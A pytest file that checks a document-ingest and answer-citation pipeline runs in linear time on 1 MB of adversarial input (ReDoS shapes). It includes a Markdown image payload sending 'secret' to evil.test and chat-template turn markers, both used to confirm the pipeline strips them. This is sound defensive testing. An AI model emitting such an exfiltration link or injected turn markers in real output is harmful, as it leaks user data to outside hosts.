"""Every parser of user text is linear: 1 MB of adversarial input, each in under 2 s.

A regular expression with two quantifiers that can trade the same characters, or
one whose failed scan every later start position repeats, turns a 24 kB Markdown
heading ("# a # # # … b") into 11 s and 1 MB into hours. The inputs below are the
shapes that trigger such backtracking (long runs of one character, openers that
never close, separators repeated without end). Each stage also checks that it did
its job on the input, down to a sentinel placed next to it, so a stage that gave up
early cannot pass. A sentinel goes before the input where one after it could close
what the input leaves open (a ")" would complete every link the input starts).
"""

from __future__ import annotations

import gc
import time
from pathlib import Path

import pytest

from ingest.chunking import DEFAULT_CHUNK_WORDS, chunk_pages
from ingest.errors import LoadError
from ingest.lexical import tokenize
from ingest.loaders import MAX_HEADING_CHARS, load, split_markdown
from ingest.types import Chunk, Page
from rag.citations import split_answer, strip_foreign_links, verify
from rag.generate import neutralise
from rag.types import Hit

N = 1_000_000  # characters per input: 1 MB of ASCII
LIMIT_S = 2.0
MAX_SECTION_CHARS = 6 * (MAX_HEADING_CHARS + 3)  # six levels of capped titles joined by " > "

INPUTS = {
    "hash-space": "# " * (N // 2),
    "hashes": "#" * N,
    "heading-hash-runs": "# a " + "# " * (N // 2) + "b",
    "one-word": "a" * N,
    "spaces-then-x": " " * N + "x",
    "x-spaces-x": "x" + " " * N + "x",
    "dots": "." * N,
    "dots-then-word": "." * N + "x",
    "dot-quote-space": '." ' * (N // 3),
    "hyphen-breaks": "a-\n" * (N // 3),
    "newlines": "\n" * N,
    "open-brackets": "[" * N,
    "bracket-paren": "](" * (N // 2),
    "image-openers": "![x](" * (N // 5),
    "empty-link-openers": "[](" * (N // 3),
    "long-url": "http://" + "a" * N,
    "numbered": "1." * (N // 2),
    "dashes": "- " * (N // 2),
    "tabs-then-hash": "\t" * N + "#",
    "markers": "[1]" * (N // 3),
    "tag-openers": "<a" * (N // 2),
    "e-acute": "é " * (N // 2),
    "right-to-left-override": "\u202e" * N,
}
HEADING_INPUTS = {"hash-space", "heading-hash-runs"}  # one heading line of about 1 MB
NO_TEXT = {"newlines"}  # nothing but whitespace: the loader must say so

CLAIM = "The warranty lasts 4 years [1]."
SOURCE = "The warranty lasts 4 years and covers the pump and the boiler."
EVIL = "![p](//evil.test/p.png?q=secret)"


def _hit(text: str) -> Hit:
    return Hit(Chunk("c1", "d", "guide.md", 1, 0, len(text), text), 1.0)


def _timed(fn, *args):
    """`fn(*args)`, failing when it takes LIMIT_S or more. The garbage collector is
    held off meanwhile: its pauses depend on what earlier tests left on the heap, and
    the limit is about the algorithm (a quadratic stage takes minutes, not 2 s)."""
    gc.disable()
    try:
        t0 = time.perf_counter()
        out = fn(*args)
        elapsed = time.perf_counter() - t0
    finally:
        gc.enable()
    assert elapsed < LIMIT_S, f"took {elapsed:.2f} s on 1 MB; the limit is {LIMIT_S} s"
    return out


def _load(path: Path) -> list[Page] | LoadError:
    try:
        return load(path)
    except LoadError as e:
        return e


# Each stage: (name, text, tmp_path) -> None; it times the call and checks the result.


def load_markdown(name: str, text: str, tmp_path: Path) -> None:
    """decode_text, clean_text and split_markdown through the loader."""
    path = tmp_path / "doc.md"
    path.write_text(text, encoding="utf-8")
    result = _timed(_load, path)
    if name in NO_TEXT | HEADING_INPUTS:  # whitespace, or a heading with no text under it
        assert isinstance(result, LoadError) and "no text" in result.reason
        return
    assert isinstance(result, list) and result, result
    assert all(p.text.strip() and len(p.section) <= MAX_SECTION_CHARS for p in result)
    assert not any("  " in p.text or "\t" in p.text for p in result), "clean_text collapses runs of spaces"


def load_text(name: str, text: str, tmp_path: Path) -> None:
    """decode_text, clean_text and form-feed pages through the loader."""
    path = tmp_path / "doc.txt"
    path.write_text(text, encoding="utf-8")
    result = _timed(_load, path)
    if name in NO_TEXT:
        assert isinstance(result, LoadError) and "no text" in result.reason
        return
    assert isinstance(result, list) and result, result
    assert all(p.section == "" and p.text.strip() for p in result)
    assert not any("  " in p.text or "\t" in p.text or "\n\n\n" in p.text for p in result)


def markdown_sections(name: str, text: str, tmp_path: Path) -> None:
    """split_markdown itself, on text that did not go through clean_text."""
    pages = _timed(split_markdown, text + "\nafter", "doc.md")
    assert pages[-1].text.endswith("after")
    if name in HEADING_INPUTS:
        assert len(pages[-1].section) == MAX_HEADING_CHARS and pages[-1].section.endswith("…")
    else:
        assert all(p.section == "" for p in pages)


def lexical_tokens(name: str, text: str, tmp_path: Path) -> None:
    tokens = _timed(tokenize, text + " warranty")
    assert tokens[-1] == "warranti"


def chunks(name: str, text: str, tmp_path: Path) -> None:
    page = Page("doc.txt", 1, text + " sentinel")  # lower case: no sentence starts here
    out = _timed(chunk_pages, [page], "d" * 64)
    assert out and out[-1].text.endswith("sentinel") and out[-1].end == len(page.text)
    assert all(c.text == page.text[c.start : c.end] for c in out)
    assert all(len(c.text.split()) <= DEFAULT_CHUNK_WORDS for c in out)


def answer_sentences(name: str, text: str, tmp_path: Path) -> None:
    out = _timed(split_answer, text + "\n" + CLAIM)
    assert out[-1] == ("The warranty lasts 4 years.", [1])


def foreign_links(name: str, text: str, tmp_path: Path) -> None:
    out = _timed(strip_foreign_links, EVIL + " " + text, [])
    assert "evil.test" not in out and "](" not in out and "http://" not in out


def verified_answer(name: str, text: str, tmp_path: Path) -> None:
    """The model's output is the adversarial text; the source is ordinary."""
    out, cites, _ = _timed(verify, text + " " + CLAIM, [_hit(SOURCE)])
    assert out.endswith(CLAIM) and [c.n for c in cites] == [1]


def verified_sources(name: str, text: str, tmp_path: Path) -> None:
    """The source is the adversarial text (a document's chunk); the answer is ordinary."""
    out, cites, _ = _timed(verify, CLAIM, [_hit(text + " " + SOURCE)])
    assert out == CLAIM and cites[0].quote.endswith(SOURCE)


def defused_prompt(name: str, text: str, tmp_path: Path) -> None:
    out = _timed(neutralise, "<start_of_turn>" + text + "<end_of_turn>")
    assert out.startswith("\u2039start_of_turn>") and out.endswith("\u2039end_of_turn>")


STAGES = [
    load_markdown,
    load_text,
    markdown_sections,
    lexical_tokens,
    chunks,
    answer_sentences,
    foreign_links,
    verified_answer,
    verified_sources,
    defused_prompt,
]


@pytest.mark.parametrize("stage", STAGES, ids=lambda s: s.__name__)
@pytest.mark.parametrize("name", INPUTS)
def test_stage_is_linear_on_adversarial_input(stage, name, tmp_path):
    stage(name, INPUTS[name], tmp_path)
